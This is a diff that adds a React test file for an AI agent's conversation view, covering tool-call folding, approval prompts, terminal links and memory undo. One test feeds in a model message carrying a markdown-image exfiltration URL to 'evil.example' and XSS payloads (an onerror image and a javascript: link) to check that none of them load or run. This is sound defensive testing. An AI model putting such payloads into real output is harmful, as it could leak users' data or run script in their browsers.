@@ -1,0 +1,112 @@
+import { cleanup, fireEvent, render, screen, waitFor } from '@testing-library/react';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { onIntent, start, usePort } from '../../link';
+import { type FakeHost, fakeHost } from '../../testing/fake-host';
+import { sampleApp, sampleThread } from '../../testing/samples';
+import { Conversation } from './conversation';
+import { segmentsOf } from './segments';
+
+const Gate = ({ thread = sampleThread() }) =>
+  usePort().phase === 'ready' ? (
+    <Conversation
+      thread={thread}
+      renderApproval={(approval, index, total) => (
+        <p key={approval.id}>{`asks ${approval.tool} ${index + 1}/${total}`}</p>
+      )}
+      empty={(use) => (
+        <button type="button" onClick={() => use('list files')}>
+          suggestion
+        </button>
+      )}
+      stopKeys="Ctrl+."
+    />
+  ) : null;
+
+describe('a thread as it is shown', () => {
+  let host: FakeHost;
+  let stop: () => void;
+  beforeEach(() => {
+    host = fakeHost(sampleApp());
+    stop = start(host.port);
+  });
+  afterEach(() => {
+    cleanup();
+    stop();
+    localStorage.clear();
+  });
+
+  it('folds looks, and stands sub-agents under their call', () => {
+    const { segments, nested } = segmentsOf(sampleThread().messages);
+    expect(segments.map((one) => one.kind)).toEqual(['user', 'prose', 'calls', 'prose', 'calls']);
+    const [, , calls] = segments;
+    expect(
+      calls?.kind === 'calls' &&
+        calls.lines.map((line) => (line.kind === 'fold' ? line.calls.length : line.call.name)),
+    ).toEqual([4, 'write_todos', 'write_file', 'execute', 'task', 'delete']);
+    expect([...nested].map(([call, messages]) => [call, messages.map((one) => one.text)])).toEqual([
+      ['ct', ['No other file does.']],
+    ]);
+  });
+
+  it('says each call in words with its state, and shows its terminal', async () => {
+    const intents: unknown[] = [];
+    const undo = onIntent((intent) => intents.push(intent));
+    render(<Gate />);
+    const line = await screen.findByRole('button', { name: /Ran npm test/ });
+    expect(line.textContent).toBe('Rannpm testexit 12.1 s');
+    fireEvent.click(screen.getByRole('button', { name: 'Show in the terminal' }));
+    undo();
+    expect(intents).toEqual([{ type: 'showTerminal', terminalId: 'x1' }]);
+  });
+
+  it('puts each question where its call stands, in order', async () => {
+    render(<Gate />);
+    expect((await screen.findAllByText(/^asks/)).map((one) => one.textContent)).toEqual([
+      'asks edit_file 1/2',
+      'asks execute 2/2',
+    ]);
+  });
+
+  it('loads no picture and runs no markup of a model', async () => {
+    const message = {
+      role: 'agent',
+      id: 'm9',
+      at: 1,
+      text: 'see ![secret](https://evil.example/x.png?key=1)\n\n<img src=x onerror=alert(1)>\n\n[go](javascript:alert(1))',
+      reasoning: '',
+      phase: 'done',
+      calls: [],
+    };
+    const { container } = render(<Gate thread={sampleThread({ messages: [message], approvals: [] })} />);
+    const link = await screen.findByRole('link', { name: 'secret' });
+    expect(container.querySelector('img')).toBeNull();
+    expect(container.querySelector('[href^="javascript"]')).toBeNull();
+    fireEvent.click(link);
+    await waitFor(() =>
+      expect(host.calls.at(-1)).toEqual({
+        command: 'link.open',
+        input: { url: 'https://evil.example/x.png?key=1' },
+      }),
+    );
+  });
+
+  it('offers to undo a memory that the agent wrote', async () => {
+    render(<Gate />);
+    fireEvent.click(await screen.findByRole('button', { name: /Take back what was written/ }));
+    await waitFor(() =>
+      expect(host.calls.at(-1)).toEqual({
+        command: 'memories.undo',
+        input: { threadId: 't1', callId: 'c6' },
+      }),
+    );
+  });
+
+  it('puts a suggestion into the composer without sending it', async () => {
+    render(
+      <Gate thread={sampleThread({ messages: [], approvals: [], queue: [], turn: { phase: 'idle' } })} />,
+    );
+    fireEvent.click(await screen.findByRole('button', { name: 'suggestion' }));
+    expect(screen.getByRole<HTMLTextAreaElement>('textbox').value).toBe('list files');
+    expect(host.calls.map((one) => one.command)).toEqual(['app.open']);
+  });
+});
